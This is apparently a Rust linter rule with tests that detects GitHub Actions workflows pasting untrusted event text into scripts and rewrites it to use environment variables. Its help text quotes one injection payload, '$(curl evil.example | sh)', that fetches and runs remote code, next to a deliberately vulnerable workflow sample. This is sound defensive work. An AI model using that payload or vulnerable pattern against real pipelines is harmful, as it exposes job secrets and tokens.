//! Text that anybody may write, pasted into a script.

use super::prelude::*;

pub(crate) static RULE: Rule = Rule {
    id: "config/github-script-injection",
    title: "text of a stranger becomes part of a script",
    severity: Severity::High,
    help: "\
The expression is replaced by its value before the shell reads the script. A title such as `$(curl evil.example | sh)` is then a
command, and it runs with the secrets and the token of the job; Ultralytics lost its releases to a branch name in 2024. Hand the
value over as a variable and let the shell quote it.

Bad:

```yaml
on: issues
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo \"${{ github.event.issue.title }}\"
```

Good:

```yaml
on: issues
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: echo \"${ISSUE_TITLE}\"
```",
    references: &["https://docs.github.com/en/actions/reference/security/secure-use", "https://securitylab.github.com/resources/github-actions-untrusted-input/"],
};

pub(crate) fn check(workflow: &Workflow<'_>, found: &mut Found<'_>) {
    for (_, step) in workflow.steps() {
        let Some(program) = step.program() else { continue };
        let mut expressions = workflow.expressions(program);
        expressions.retain(|expression| contexts(expression.inner).iter().any(|context| is_foreign(workflow, context)));
        let Some(first) = expressions.first() else { continue };
        let contexts: Vec<&str> = expressions.iter().map(|expression| expression.inner).collect();
        let message = format!("`{}` is pasted into the script, and anybody may write it", contexts.join("`, `"));
        let issue = found.at(workflow.source, &first.span, message);
        issue.fix("hand it over in `env` and write \"$NAME\" in the script").identity(contexts.join(" "));
        if step.run().is_some() {
            let edits = change::through_variables(workflow, step, &expressions).unwrap_or_default();
            edits.into_iter().for_each(|edit| {
                issue.edit(edit);
            });
        }
    }
}

/// Whether a stranger writes the text: of the event, or of file names that a step lists.
fn is_foreign(workflow: &Workflow<'_>, context: &str) -> bool {
    let mut parts = context.split('.');
    let listed = match (parts.next(), parts.next(), parts.next()) {
        (Some("steps"), Some(id), Some("outputs")) => workflow.steps().any(|(_, step)| {
            let same = step.node.get("id").and_then(|id| id.text()).is_some_and(|known| known.eq_ignore_ascii_case(id));
            same && (step.is("tj-actions/changed-files") || step.is("jitterbit/get-changed-files"))
        }),
        _ => false,
    };
    anybody_writes(context) || listed
}

#[cfg(test)]
mod tests {
    use super::*;

    fn with(step: &str) -> String {
        format!("on: issues\njobs:\n  a:\n    steps:\n      - name: x\n{step}")
    }

    #[test]
    fn fires_on_text_of_strangers_in_programs() {
        fires_on(&RULE, WORKFLOW, &with("        run: |\n          a\n          echo ${{ github.head_ref }}\n"), &["8:16"]);
        let script = "        uses: actions/github-script@v7\n        with:\n          script: |\n            a('${{ github.event.comment.body }}')\n";
        fires_on(&RULE, WORKFLOW, &with(script), &["9:16"]);
        let files = "        id: f\n        uses: tj-actions/changed-files@v45\n      - run: ls ${{ steps.f.outputs.all_changed_files }}\n";
        fires_on(&RULE, WORKFLOW, &with(files), &["8:17"]);
    }

    #[test]
    fn is_silent_where_the_shell_quotes_or_nobody_else_writes() {
        for step in [
            "        env: {T: \"${{ github.event.issue.title }}\"}\n        run: echo \"$T\"\n",
            "        run: echo ${{ github.sha }} ${{ contains(github.event.issue.title, 'a') }}\n",
            "        if: github.event.issue.title == 'a'\n        run: make\n",
        ] {
            is_silent_on(&RULE, WORKFLOW, &with(step));
        }
    }

    #[test]
    fn its_diff_hands_the_text_over_as_a_variable() {
        is_fixed_by_its_diff(
            &RULE,
            WORKFLOW,
            &with("        run: |\n          echo \"a ${{ github.event.issue.title }}\" ${{ github.head_ref }}\n"),
            &[
                "-        run: |",
                "-          echo \"a ${{ github.event.issue.title }}\" ${{ github.head_ref }}",
                "+        env:",
                "+          ISSUE_TITLE: ${{ github.event.issue.title }}",
                "+          THE_HEAD_REF: ${{ github.head_ref }}",
                "+        run: |",
                "+          echo \"a ${ISSUE_TITLE}\" \"${THE_HEAD_REF}\"",
            ],
        );
        is_fixed_by_its_diff(
            &RULE,
            WORKFLOW,
            &with("        env:\n          A: b\n        run: echo '${{ github.head_ref }}' done\n").replace("'${{", "${{").replace("}}'", "}}"),
            &[
                "-          A: b",
                "-        run: echo ${{ github.head_ref }} done",
                "+          THE_HEAD_REF: ${{ github.head_ref }}",
                "+          A: b",
                "+        run: echo \"${THE_HEAD_REF}\" done",
            ],
        );
    }
}
